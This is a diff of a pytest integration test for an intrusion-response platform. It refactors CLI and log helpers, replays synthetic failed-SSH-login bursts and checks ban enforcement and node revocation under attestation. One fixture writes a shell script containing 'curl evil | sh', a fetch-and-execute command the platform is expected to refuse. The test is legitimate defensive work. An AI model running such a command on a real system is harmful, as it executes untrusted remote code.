@@ -12,17 +12,16 @@ from __future__ import annotations
 import json
 import os
 import ssl
-import subprocess
-import sys
 import time
 from pathlib import Path
 
 import pytest
 
-from tenfold.core.testing import needs_root
+from tenfold.core.testing import needs_root, run_cli
 from tenfold.platform import Platform, PlatformError
 from tenfold.platform._engine import fetch
 from tenfold.platform._platform import NETNS_DIR, PREFIX_ENV
+from tenfold.platform._testing import sshd_failures
 from tenfold.platform._trust import TrustPaths, client_context, explain_refusal
 
 PREFIX = os.environ[PREFIX_ENV]
@@ -31,26 +30,9 @@ ATTACKER, VICTIM = f"{PREFIX}-attacker", f"{PREFIX}-victim"
 pytestmark = [pytest.mark.service, pytest.mark.slow, needs_root("network namespaces and XDP")]
 
 
-def _cli(*args: str, cwd: Path) -> subprocess.CompletedProcess[str]:
-    return subprocess.run(
-        [sys.executable, "-m", "tenfold.core", *args],
-        capture_output=True, text=True, cwd=cwd, timeout=300, check=False,
-    )  # fmt: skip
-
-
-def _burst(path: Path, ip: str, n: int = 6) -> Path:
-    path.write_text(
-        "".join(
-            f"Dec  6 01:00:0{i} web sshd[{i}]: Failed password for root from {ip} port 4{i} ssh2\n"
-            for i in range(n)
-        )
-    )
-    return path
-
-
 def st_node(home: Path, cwd: Path) -> tuple[bool, int]:
     """The node as ``platform status`` shows it: attested, and how many refusals."""
-    st = _cli("platform", "status", "--home", str(home), "--json", cwd=cwd)
+    st = run_cli("platform", "status", "--home", str(home), "--json", cwd=cwd)
     assert st.returncode == 0, st.stderr
     node = json.loads(st.stdout)["engine"]["trust"]["nodes"]["victim"]
     return node["attested"], node["refusals"]
@@ -85,7 +67,7 @@ def test_attested_node_follows_over_mtls_and_is_cut_when_attestation_fails(
     plat = Platform(home)
     topic = f"signals-{os.getpid()}-{time.monotonic_ns()}"
     try:
-        up = _cli(
+        up = run_cli(
             "platform", "up", "--home", str(home), "--kafka", kafka_broker.bootstrap,
             "--postgres", postgres.dsn, "--topic", topic, "--attested", "--attest-period", "1",
             "--json", cwd=tmp_path,
@@ -99,8 +81,8 @@ def test_attested_node_follows_over_mtls_and_is_cut_when_attestation_fails(
         assert node_cert.exists()  # issued by the authority after the node's first quote
 
         # The attested node's bouncer follows the stream over mTLS: a ban is enforced.
-        r = _cli(
-            "platform", "replay", str(_burst(tmp_path / "a.log", "203.0.113.7")),
+        r = run_cli(
+            "platform", "replay", str(sshd_failures(tmp_path / "a.log", "203.0.113.7")),
             "--home", str(home), "--json", cwd=tmp_path,
         )  # fmt: skip
         assert r.returncode == 0, r.stderr
@@ -131,7 +113,7 @@ def test_attested_node_follows_over_mtls_and_is_cut_when_attestation_fails(
                  "content": "#!/bin/sh\ncurl evil | sh\n"}
             ) + "\n"
         )  # fmt: skip
-        r = _cli("platform", "replay", str(attack), "--home", str(home), "--json", cwd=tmp_path)
+        r = run_cli("platform", "replay", str(attack), "--home", str(home), "--json", cwd=tmp_path)
         assert r.returncode == 0, r.stderr
         refusals = json.loads(r.stdout)["decisions"]
         assert {x["decision"]["action"] for x in refusals} == {"refuse"}
@@ -165,11 +147,11 @@ def test_attested_node_follows_over_mtls_and_is_cut_when_attestation_fails(
         # Decisions recorded from now on never reach the refused node.
         applied = plat._applied_index()
         with pytest.raises(PlatformError, match="did not apply"):
-            plat.replay(_burst(tmp_path / "b.log", "198.51.100.4"), timeout_s=15)
+            plat.replay(sshd_failures(tmp_path / "b.log", "198.51.100.4"), timeout_s=15)
         assert plat._applied_index() == applied
         assert node_cert.read_bytes() == revoked
     finally:
-        down = _cli("platform", "down", "--home", str(home), "--json", cwd=tmp_path)
+        down = run_cli("platform", "down", "--home", str(home), "--json", cwd=tmp_path)
     assert down.returncode == 0, down.stderr
     assert not (NETNS_DIR / ATTACKER).exists() and not (NETNS_DIR / VICTIM).exists()
     assert not (TrustPaths(home).node_dir() / "swtpm.pid").exists()
